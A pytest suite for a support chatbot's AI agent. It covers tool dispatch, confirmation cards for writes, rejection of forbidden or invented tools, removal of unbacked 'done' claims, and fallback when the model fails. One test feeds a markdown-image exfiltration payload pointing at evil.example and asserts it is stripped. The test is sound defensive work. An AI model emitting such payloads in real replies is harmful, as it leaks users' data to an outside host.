"""What the agent does with a model that behaves, and with one that does not."""

import asyncio
import json
from typing import Any

import pytest

from assistant.conversations.hub import hub
from assistant.engines.agent import breaker as breaker_module
from assistant.engines.agent import provider
from assistant.engines.agent.breaker import breaker
from assistant.engines.agent.toolbox import FIND
from assistant.wording import say
from backend.core.client import licensing_api
from backend.core.settings import settings
from tests.agent.conftest import Talk, training
from tests.agent.scripted_model import Says, ScriptedModel, call, calls, text

CREATE = "create_training_engagement"


async def test_that_words_reach_the_model_unchanged_as_the_last_message(
    talk: Talk, model: ScriptedModel
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(text("A virtual account is a part of a Smart Account."))
    odd = "what's   a *virtual* account?  /restart ⚡"
    replies = await nadia.say(odd)
    assert [reply["engine"] for reply in replies] == ["agent"]
    last = model.requests[-1]["messages"][-1]
    assert (last["role"], last["content"]) == ("user", odd)


async def test_that_a_read_is_carried_out_as_the_person(talk: Talk, model: ScriptedModel) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("get_me", {}), text("You are Nadia."))
    replies = await nadia.say("who am I?")
    assert replies[-1]["text"] == "You are Nadia."
    told = model.requests[-1]["messages"][-1]
    assert told["role"] == "tool"
    assert "nadia@northwind.example" in told["content"]


async def test_that_a_write_becomes_a_card_and_the_text_beside_it_is_dropped(
    talk: Talk, model: ScriptedModel
) -> None:
    nadia = await talk("nadia@northwind.example")
    before = await nadia.cases()
    model.steps(
        call(CREATE, training(), words="Done! I created your case."), text("Your case is created.")
    )
    asked = len(model.requests)
    replies = await nadia.say("I need training on CLC")
    assert [reply["text"] for reply in replies] == [say("card")]
    assert len(model.requests) == asked + 1
    assert await nadia.cases() == before
    confirmed = await nadia.settle(replies[-1]["proposal"]["id"])
    assert confirmed.status_code == 200
    assert len(await nadia.cases()) == len(before) + 1


async def test_that_only_the_first_write_of_a_step_counts(talk: Talk, model: ScriptedModel) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(calls((CREATE, training(attendees=4)), (CREATE, training(attendees=5))))
    proposal = await nadia.card("two trainings")
    assert proposal["arguments"]["attendees"] == 4


async def test_that_a_refused_write_goes_back_to_the_model_with_its_reasons(
    talk: Talk, model: ScriptedModel
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call(CREATE, training(attendees=0)), text("At least one person has to come."))
    replies = await nadia.say("training for nobody")
    assert replies[-1]["text"] == "At least one person has to come."
    refusal = model.requests[-1]["messages"][-1]["content"]
    assert "attendees" in refusal
    assert "at least 1" in refusal


async def test_that_arguments_that_are_not_json_are_answered_and_repeated(
    talk: Talk, model: ScriptedModel
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("get_me", "{'not': json}"), call("get_me", {}), text("You are Nadia."))
    replies = await nadia.say("who am I?")
    assert replies[-1]["text"] == "You are Nadia."
    assert "not valid JSON" in str(model.requests[1]["messages"])


async def test_that_a_tool_that_does_not_exist_is_said_not_to(
    talk: Talk, model: ScriptedModel
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("delete_everything", {}), text("I can't do that."))
    replies = await nadia.say("delete everything")
    assert replies[-1]["text"] == "I can't do that."
    assert "There is no tool delete_everything" in str(model.requests[-1]["messages"])


async def test_that_an_operation_that_was_not_offered_runs_under_the_same_rules(
    talk: Talk, model: ScriptedModel
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("claim_case", {"case_number": "C-500001"}), text("Only the desk can."))
    replies = await nadia.say("claim it")
    assert "claim_case" not in {tool["function"]["name"] for tool in model.requests[0]["tools"]}
    assert replies[-1]["proposal"] is None
    model.steps(call("open_case", {"category": "other", "title": "T", "description": "D"}))
    assert (await nadia.card("then a case"))["operation"] == "open_case"


def told(request: dict[str, Any]) -> dict[str, Any]:
    """The tools of a request to the model, by name."""
    return {tool["function"]["name"]: tool["function"] for tool in request["tools"]}


NO_MODELS = {"demo", "commerce", "webhooks", "case_system", "mails"}


def may_be_called(name: str) -> bool:
    """All but what deals in files, the demo's own calls, what machines tell us with tokens of their
    own, the mails and the endpoints that people look after.
    """
    tags = licensing_api().operations[name].tags
    return "file" not in name and "attach" not in name and not NO_MODELS & {*tags}


async def test_that_every_operation_of_the_api_is_a_tool_or_named_in_the_one_that_finds_it(
    talk: Talk, model: ScriptedModel
) -> None:
    lee = await talk("lee@support.example")
    model.steps(text("Hello."))
    await lee.say("I need training on CLC")
    tools = told(model.requests[0])
    named = tools.pop(FIND)["description"].split(": ")[1].split(", ") if FIND in tools else []
    assert {*tools, *named} == set(filter(may_be_called, licensing_api().operations))
    assert not {"attach_to_case", "read_file", "read_outbox"} & {*tools, *named}
    assert tools[CREATE]["parameters"]["properties"]["attendees"] == {
        "type": "integer", "minimum": 1, "maximum": 100,
        "description": "How many people take part, 1 to 100",
    }  # fmt: skip
    assert model.requests[0]["tool_choice"] == "auto"


async def test_that_a_tool_that_was_found_is_there_in_the_next_step(
    talk: Talk, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(settings(), "agent_prompt_tokens", 2000)
    nadia = await talk("nadia@northwind.example")
    model.steps(call(FIND, {"words": "update_me"}), call("update_me", {"phone": "+47 555 01 78"}))
    proposal = await nadia.card("hello")
    assert proposal["operation"] == "update_me"
    first, second = map(told, model.requests)
    assert "update_me" not in first
    assert "update_me" in first[FIND]["description"]
    assert "update_me" in second
    assert "update_me" in model.requests[1]["messages"][-1]["content"]
    model.steps(text("Sure."))
    await nadia.say("hm")
    assert "update_me" in told(model.requests[-1])


@pytest.mark.parametrize(
    "name",
    ["read_outbox", "attach_to_case", "http.confirm_proposal", "confirm_proposal",
     "create_mcp_token", "http.create_mcp_token", "take_over", "sign_in_demo"],
)  # fmt: skip
async def test_that_confirming_signing_in_and_talking_are_no_tools(
    talk: Talk, model: ScriptedModel, name: str
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call(name, {"email": "lee@support.example"}), text("I can't do that."))
    replies = await nadia.say("try it")
    assert replies[-1]["text"] == "I can't do that."
    assert f"There is no tool {name}" in str(model.requests[-1]["messages"])


async def test_that_the_prompt_of_a_customer_is_small(talk: Talk, model: ScriptedModel) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(text("Hello."))
    await nadia.say("hello")
    request = model.requests[0]
    characters = len(request["messages"][0]["content"]) + len(str(request["tools"]))
    assert characters / 4 <= 3000
    assert "nadia@northwind.example" not in str(request["messages"])


@pytest.mark.parametrize(
    "claim",
    [
        "I have created your case C-999999.",
        "Your case has been opened.",
        "Done! Your request was submitted.",
        "I've successfully cancelled it.",
    ],
)
async def test_that_a_claim_without_a_receipt_is_taken_out(
    talk: Talk, model: ScriptedModel, claim: str
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(text(f"Sure. {claim}"))
    replies = await nadia.say("open a case")
    assert claim not in replies[-1]["text"]
    assert say("nothing_done") in replies[-1]["text"]


async def test_that_images_and_markup_are_taken_out(talk: Talk, model: ScriptedModel) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(text("Look ![x](https://evil.example/p.png?d=secret) <img src=x> here."))
    replies = await nadia.say("hello")
    assert "evil.example" not in replies[-1]["text"]
    assert "<img" not in replies[-1]["text"]


async def test_that_endless_calls_end_with_words_of_ours(talk: Talk, model: ScriptedModel) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("get_me", {}))
    replies = await nadia.say("loop")
    assert replies[-1]["text"] == say("agent_limit")
    assert len(model.requests) == settings().agent_model_calls
    model.requests.clear()
    model.steps(calls(*[("get_me", {})] * 200))
    replies = await nadia.say("two hundred at once")
    assert replies[-1]["text"] == say("agent_limit")


FAULTS = {
    "a cut stream": Says(text="hello world and more", cut_after=2),
    "an empty answer": Says(),
    "too many requests": Says(status=429),
    "an error of theirs": Says(status=500),
    "no JSON": Says(garbage=True),
    "silence": Says(silent=True),
}


@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS)
async def test_that_rasa_goes_on_when_the_model_fails_and_says_so_once(
    talk: Talk, model: ScriptedModel, fault: Says, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(settings(), "agent_silence_seconds", 1.0)
    provider.chat_model.cache_clear()
    nadia = await talk("nadia@northwind.example")
    model.steps(fault)
    first = await nadia.say("hello")
    assert first[0]["text"] == say("agent_off")
    assert first[-1]["engine"] == "rasa"
    second = await nadia.say("hello again")
    assert say("agent_off") not in [reply["text"] for reply in second]


async def test_that_a_failing_model_is_left_alone_and_asked_again_later(
    talk: Talk, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(Says(status=500))
    for _ in range(breaker_module.FAILURES_TO_OPEN):
        await nadia.say("hello")
    asked = len(model.requests)
    await nadia.say("hello")
    assert len(model.requests) == asked
    monkeypatch.setattr(settings(), "agent_pause_seconds", 0.0)
    model.steps(text("I am back."))
    replies = await nadia.say("hello")
    assert replies[-1]["text"] == "I am back."
    assert breaker.closed


async def test_that_the_agent_remembers_what_it_called(talk: Talk, model: ScriptedModel) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("get_me", {}), text("You are Nadia."))
    await nadia.say("who am I?")
    model.steps(text("As I said."))
    await nadia.say("and again?")
    roles = [message["role"] for message in model.requests[-1]["messages"]]
    assert roles == ["system", "user", "assistant", "tool", "assistant", "user"]


async def test_that_the_turn_leaves_its_why(talk: Talk, model: ScriptedModel, person: Any) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(call("get_me", {}), text("You are Nadia."))
    await nadia.say("who am I?")
    lee = await person("lee@support.example")
    listed = await lee.get(f"/conversations/{nadia.id}/messages")
    why = next(m["why"] for m in listed.json()["items"] if m["role"] == "user")
    assert [tool["name"] for tool in why["tools"]] == ["get_me"]
    assert why["tokens"] == {"input": 200, "output": 20}


async def test_that_an_answer_can_be_read_while_it_grows(
    talk: Talk, model: ScriptedModel, app: Any
) -> None:
    nadia = await talk("nadia@northwind.example")
    model.steps(text("I have opened it. A virtual account is a part. It lies in a Smart Account."))
    seen: list[str] = []

    async def watch() -> None:
        async with hub().waiting(nadia.id) as changed:
            while True:
                await changed.wait()
                changed.clear()
                if growing := hub().growing.get(nadia.id):
                    seen.append(growing)

    watching = asyncio.create_task(watch())
    await asyncio.sleep(0)
    await nadia.say("what is a virtual account?")
    await asyncio.sleep(0)
    watching.cancel()
    assert seen
    assert "A virtual account is a part." in seen[-1]
    assert not any("opened it" in growing for growing in seen)
    assert nadia.id not in hub().growing


async def test_that_an_agent_that_takes_too_long_leaves_the_turn_to_rasa(
    talk: Talk, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(settings(), "turn_seconds", 0.5)
    nadia = await talk("nadia@northwind.example")
    model.steps(Says(silent=True))
    replies = await nadia.say("hello")
    assert replies[0]["text"] == say("agent_off")


async def test_that_turns_of_several_people_at_once_share_nothing(
    model: ScriptedModel, talk: Talk
) -> None:
    def asks_who_then_says(request: dict[str, Any]) -> Says:
        last = request["messages"][-1]
        if last["role"] != "tool":
            return call("get_me", {})
        return text(f"You are {json.loads(last['content'])['email']}.")

    people = 3 * ["nadia@northwind.example", "carla@contoso.example", "paul@fabrikam.example"]
    talks = [await talk(email) for email in people]
    model.script = asks_who_then_says
    answers = await asyncio.gather(*(one.say("who am I?") for one in talks))
    assert [replies[-1]["text"] for replies in answers] == [f"You are {one}." for one in people]
    for request in model.requests:
        [told, *_, last] = request["messages"]
        if last["role"] == "tool":
            first_name = json.loads(last["content"])["name"].split()[0]
            assert f"You help {first_name} " in told["content"]
